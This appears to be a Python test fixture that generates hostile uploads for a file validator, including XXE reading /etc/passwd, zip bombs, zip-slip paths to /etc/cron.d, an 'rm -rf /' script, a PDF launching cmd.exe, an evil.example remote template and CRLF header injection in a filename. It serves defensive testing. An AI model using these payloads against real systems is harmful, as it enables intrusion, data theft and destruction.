"""Hostile files, made when they are asked for: name → (file name, bytes, the code that it must be refused with).

Where the code is "" the file is taken, and must then be inert: `test_uploads` says for each in what way.
"""

from __future__ import annotations

import io
import random
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from tests.attacks.zips import (
    lying_size,
    odf,
    office,
    office_parts,
    overlapping,
    packed,
    patched,
    relations,
    with_entry,
)

PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = (
    '<!DOCTYPE a [<!ENTITY e0 "ha">'
    + "".join(f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 12))
    + "]><a>&e11;</a>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
MB = 1 << 20


def png_chunk(name: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + name + payload + struct.pack(">I", zlib.crc32(name + payload))


def png(width: int = 2, height: int = 2, *extra: bytes) -> bytes:
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = zlib.compress((b"\x00" + b"\x7f" * min(width, 4)) * min(height, 4))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2, *extra: bytes) -> bytes:
    """The frame of a JPEG: sound in its segments, with a scan of noise."""
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8" + b"".join(extra) + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\xd9"


def tar() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    return file.getvalue()


def many_entries(count: int = 70_000) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", allowZip64=True) as archive:
        for number in range(count):
            archive.writestr(zipfile.ZipInfo(f"{number}"), b"")
    return file.getvalue()


def spread_bomb() -> bytes:
    """Each part keeps below the free size, all together do not."""
    return office(parts={f"word/media/{number}.bin": bytes(7 * MB) for number in range(20)})


def nested_bomb() -> bytes:
    """Documents within a document, each within its own limits: together they pass the budget."""
    filler = random.Random(1).randbytes(MB // 10) + bytes(4 * MB)
    inner = office("xlsx", parts={f"xl/{number}.bin": filler for number in range(10)})
    return office(parts={f"word/embeddings/t{number}.xlsx": inner for number in range(5)})


def documents_three_deep() -> bytes:
    deepest = office("xlsx")
    middle = office("xlsx", parts={"xl/embeddings/a.xlsx": deepest})
    return office(parts={"word/embeddings/a.xlsx": middle})


def padded_comment() -> bytes:
    """A PDF whose end holds a zip in which the PDF's own end mark is the comment."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a", b"x")
        archive.comment = b"\n%%EOF\n"
    return PDF + patched(
        file.getvalue(), b"PK\x05\x06", 16, (len(PDF) + file.getvalue().find(b"PK\x01\x02")).to_bytes(4, "little")
    )


def concatenated() -> bytes:
    return office() + office("xlsx")


def utf16_doctype() -> bytes:
    return XXE.encode("utf-16")


Made = tuple[str, Callable[[], bytes], str]

HOSTILE: dict[str, Made] = {
    # bombs
    "docx with a part of 300 MB": ("a.docx", lambda: office(parts={"word/media/a.bin": bytes(300 * MB)}), "unpacks-too-big"),
    "docx with a part packed 1,000 to 1": ("a.docx", lambda: office(parts={"word/a.bin": bytes(20 * MB)}), "unpacks-too-big"),
    "docx bomb spread over parts": ("a.docx", spread_bomb, "unpacks-too-big"),
    "docx bomb nested in documents": ("a.docx", nested_bomb, "unpacks-too-big"),
    "docx with a huge list of contents": (
        "a.docx", lambda: office(parts={"[Content_Types].xml": "<Types>" + "<a/>" * (2 * MB) + "</Types>"}), "unpacks-too-big",
    ),
    "zip with 70,000 entries": ("a.docx", many_entries, "too-many-parts"),
    "zip that declares fewer entries than it has": (
        "a.docx", lambda: patched(many_entries(5_000), b"PK\x05\x06", 8, b"\x01\x00\x01\x00"), "polyglot",
    ),
    "entries that overlap": ("a.docx", overlapping, "polyglot"),
    # lies
    "size declared too small": ("a.docx", lambda: lying_size(10, 5 * MB), "damaged"),
    "size declared too large": ("a.docx", lambda: lying_size(5 * MB, 10), "damaged"),
    "size declared past the end of the world": ("a.docx", lambda: lying_size(0xFFFFFFF0, 10), "unpacks-too-big"),
    "packed in an unknown way": ("a.docx", lambda: patched(office(), b"PK\x01\x02", 10, b"\x63\x00"), "damaged"),
    "packed with LZMA": ("a.docx", lambda: packed(office_parts(), method=zipfile.ZIP_LZMA), "damaged"),
    "list of entries that points elsewhere": ("a.docx", lambda: patched(office(), b"PK\x05\x06", 16, b"\x05\x00\x00\x00"), "polyglot"),
    "list of entries that is noise": ("a.docx", lambda: patched(office(), b"PK\x01\x02", 0, b"NOPE"), "damaged"),
    "local header that is noise": ("a.docx", lambda: patched(office(), b"PK\x03\x04", 0, b"NOPE"), "damaged"),
    # places and names
    "zip slip": ("a.docx", lambda: with_entry("../../etc/cron.d/x"), "part-name"),
    "zip slip to an absolute path": ("a.docx", lambda: with_entry("/etc/passwd"), "part-name"),
    "zip slip with backslashes": ("a.docx", lambda: with_entry("..\\..\\a\\bc"), "part-name"),
    "zip slip to a drive": ("a.docx", lambda: with_entry("C:/Windows/a"), "part-name"),
    "name cut by a zero byte": ("a.docx", lambda: with_entry("a.xml\x00.exe"), "part-name"),
    "symbolic link": ("a.docx", lambda: with_entry("word/link", b"/etc/passwd", mode=stat.S_IFLNK | 0o777), "part-name"),
    "two entries of one name": ("a.docx", lambda: with_entry("WORD/document.xml", b"<a/>"), "part-name"),
    "encrypted part": ("a.docx", lambda: with_entry("word/secret", flags=1), "encrypted"),
    # what is inside
    "zip within a document": ("a.docx", lambda: office(parts={"word/media/a.png": packed({"a": b"x"})}), "nested"),
    "program within a document": ("a.docx", lambda: office(parts={"word/media/a.png": b"MZ\x90\x00"}), "nested"),
    "documents three deep": ("a.docx", documents_three_deep, "embedded"),
    "OLE object": ("a.docx", lambda: office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "embedded"),
    "ActiveX control": ("a.docx", lambda: office(parts={"word/activeX/activeX1.xml": "<a/>"}), "embedded"),
    "vbaProject inside docx": ("a.docx", lambda: office(parts={"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
    "docm": (
        "a.docm", lambda: office(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros",
    ),
    "xlsm called xlsx": (
        "a.xlsx", lambda: office("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros",
    ),
    "xlsx with a macro sheet": ("a.xlsx", lambda: office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    "odt with Basic": ("a.odt", lambda: odf(parts={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "remote template": (
        "a.docx",
        lambda: office(parts={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/a", "External"))}),
        "remote",
    ),
    "linked picture on a file server": (
        "a.docx",
        lambda: office(parts={"word/_rels/document.xml.rels": relations(("image", r"\\evil\share\a.png", "External"))}),
        "remote",
    ),
    # markup
    "XXE in docx": ("a.docx", lambda: office(parts={"word/document.xml": XXE}), "document-type"),
    "XXE in xlsx": ("a.xlsx", lambda: office("xlsx", parts={"xl/sharedStrings.xml": XXE}), "document-type"),
    "XXE in the list of contents": ("a.docx", lambda: office(parts={"[Content_Types].xml": XXE}), "document-type"),
    "XXE in relations": ("a.docx", lambda: office(parts={"_rels/.rels": XXE}), "document-type"),
    "XXE in UTF-16": ("a.docx", lambda: office(parts={"word/document.xml": utf16_doctype()}), "document-type"),
    "XXE in UTF-16 without a mark": ("a.docx", lambda: office(parts={"word/document.xml": XXE.encode("utf-16-le")}), "document-type"),
    "XXE in an unusual encoding": (
        "a.docx", lambda: office(parts={"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE'}), "document-type",
    ),
    "XXE in EBCDIC": ("a.docx", lambda: office(parts={"word/document.xml": XXE.encode("cp500")}), "document-type"),
    "doctype behind 65,530 blanks": (
        "a.docx", lambda: office(parts={"word/document.xml": "<a>" + " " * 65_527 + "<!DOCTYPE a><b/></a>"}), "document-type",
    ),
    "billion laughs in odt": ("a.odt", lambda: odf(parts={"content.xml": LAUGHS}), "document-type"),
    "SVG with a script": ("a.svg", lambda: SVG, "markup"),
    "SVG called png": ("a.png", lambda: SVG, "markup"),
    "HTML called png": ("a.png", lambda: HTML, "markup"),
    "HTML called txt behind blanks": ("a.txt", lambda: b"\xef\xbb\xbf" + b"\n" * 100_000 + HTML, "markup"),
    "XML bomb called txt": ("a.txt", LAUGHS.encode, "markup"),
    # two files in one
    "PDF with a zip behind": ("a.pdf", lambda: PDF + packed({"a": b"x"}), "polyglot"),
    "PDF with a zip around its end": ("a.pdf", padded_comment, "polyglot"),
    "PDF in front of a document": ("a.docx", lambda: PDF + office(), "polyglot"),
    "PDF in the first part of a zip": ("a.docx", lambda: packed({"a": PDF} | office_parts(), method=zipfile.ZIP_STORED), "polyglot"),
    "two documents in a row": ("a.docx", concatenated, "polyglot"),
    "document with a comment of script": ("a.docx", lambda: office()[:-2] + b"\x05\x00<scr>", "polyglot"),
    "program in front of a zip": ("a.docx", lambda: b"MZ" + bytes(100) + office(), "executable"),
    "one zip, two kinds of document": (
        "a.docx",
        lambda: office(
            content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
            '<Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
        ),
        "polyglot",
    ),
    "GIF that is a script": ("a.gif", lambda: b"GIF89a/*" + HTML, "picture-format"),
    "JPEG with a zip behind": ("a.jpg", lambda: jpeg() + packed({"a": b"x"}), "polyglot"),
    "JPEG with HTML in a comment": ("a.jpg", lambda: jpeg(2, 2, b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML), ""),
    "JPEG with a web page behind": ("a.jpg", lambda: jpeg() + HTML, ""),
    "PNG with HTML in a text chunk": ("a.png", lambda: png(2, 2, png_chunk(b"tEXt", b"a\x00" + HTML)), ""),
    "PNG with a program behind": ("a.png", lambda: png() + b"MZ\x90\x00", ""),
    "PDF called png": ("a.png", lambda: PDF, "wrong-extension"),
    "PNG called pdf": ("a.pdf", png, "wrong-extension"),
    # pictures
    "PNG of 50,000 x 50,000": ("a.png", lambda: png(50_000, 50_000), "too-many-pixels"),
    "JPEG of 65,500 x 65,500": ("a.jpg", lambda: jpeg(65_500, 65_500), "too-many-pixels"),
    "JPEG of a million segments": ("a.jpg", lambda: jpeg(2, 2, b"\xff\xe5\x00\x02" * 1_000_000), "damaged"),
    "PNG of a million chunks": ("a.png", lambda: png(2, 2, png_chunk(b"teSt", b"") * 1_000_000), "damaged"),
    "PNG whose chunk claims 4 GB": ("a.png", lambda: png()[:33] + b"\xff\xff\xff\xffIDAT" + b"x" * 100, "damaged"),
    "PNG cut off": ("a.png", lambda: png()[:-20], "damaged"),
    "JPEG cut off": ("a.jpg", lambda: jpeg()[:-2], "damaged"),
    "animated WebP": (
        "a.webp", lambda: b"RIFF" + struct.pack("<I", 18) + b"WEBPANIM" + struct.pack("<I", 6) + bytes(6), "animated",
    ),
    "WebP that lies about its size": ("a.webp", lambda: b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\x7f" + bytes(100), "damaged"),
    "TIFF": ("a.tiff", lambda: b"II*\x00" + bytes(100), "picture-format"),
    "HEIC": ("a.heic", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(100), "picture-format"),
    # programs, archives, old documents
    "Windows program called pdf": ("a.pdf", lambda: b"MZ" + bytes(1000), "executable"),
    "Linux program": ("a.txt", lambda: b"\x7fELF" + bytes(100), "executable"),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "executable"),
    "zip called docx": ("a.docx", lambda: packed({"a": b"x"}), "archive"),
    "jar called docx": ("a.docx", lambda: packed({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0"}), "archive"),
    "tar": ("a.txt", tar, "archive"),
    "gzip": ("a.txt", lambda: b"\x1f\x8b\x08" + bytes(100), "archive"),
    "rar": ("a.docx", lambda: b"Rar!\x1a\x07\x00" + bytes(100), "archive"),
    "old Word document, or an encrypted one": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), "old-office"),
    "RTF called txt": ("a.txt", lambda: b"{\\rtf1 {\\object}}", "old-office"),
    "document cut off": ("a.docx", lambda: office()[:-30], "damaged"),
    "document of its first 10 bytes": ("a.docx", lambda: office()[:10], "damaged"),
    # PDF that does something
    "PDF with JavaScript": ("a.pdf", lambda: PDF + b"<</S/JavaScript/JS(app.alert(1))>>\n%%EOF\n", "active-pdf"),
    "PDF with JavaScript in disguise": ("a.pdf", lambda: PDF + b"<</S/J#61va#53cript/JS(a)>>\n%%EOF\n", "active-pdf"),
    "PDF that starts a program": ("a.pdf", lambda: PDF + b"<</S/Launch/F(cmd.exe)>>\n%%EOF\n", "active-pdf"),
    "PDF of 45 MB of half a name": ("a.pdf", lambda: PDF + b"/JavaScrip" * (45 * MB // 10) + b"\n%%EOF\n", ""),
    "PDF cut off": ("a.pdf", lambda: PDF[:-6], "damaged"),
    "PDF with a password": ("a.pdf", lambda: PDF + b"trailer <</Encrypt 2 0 R>>\n%%EOF\n", ""),
    # names
    "program with a name that runs from right to left": ("plan\u202efdp.exe", lambda: PDF, "wrong-extension"),
    "PDF with a name that runs from right to left": ("\u202egnp.plan\u202c.pdf", lambda: PDF, ""),
    "name with a path": ("../../../etc/cron.d/plan.pdf", lambda: PDF, ""),
    "name with a line break": ("plan\r\nSet-Cookie: a=b.pdf", lambda: PDF, ""),
    "name of 5,000 letters": ("字" * 5_000 + ".pdf", lambda: PDF, ""),
    "name of a device": ("con.pdf", lambda: PDF, ""),
    # text
    "bytes called txt": ("a.txt", lambda: bytes(range(256)) * 10, "encoding"),
    "text with a zero byte": ("a.csv", lambda: b"a,b\n\x00", "encoding"),
    "CSV with a formula": ("a.csv", lambda: b"=HYPERLINK(1),2\n", ""),
    "10 MB of one letter": ("a.txt", lambda: b"a" * (10 * MB), ""),
    "text above its limit": ("a.txt", lambda: b"a" * (10 * MB + 1), "too-big"),
    "picture above its limit": ("a.jpg", lambda: jpeg() + bytes(25 * MB), "too-big"),
    "file above the limit": ("a.pdf", lambda: PDF + bytes(50 * MB), "too-big"),
    "nothing": ("a.pdf", lambda: b"", "empty"),
}  # fmt: skip
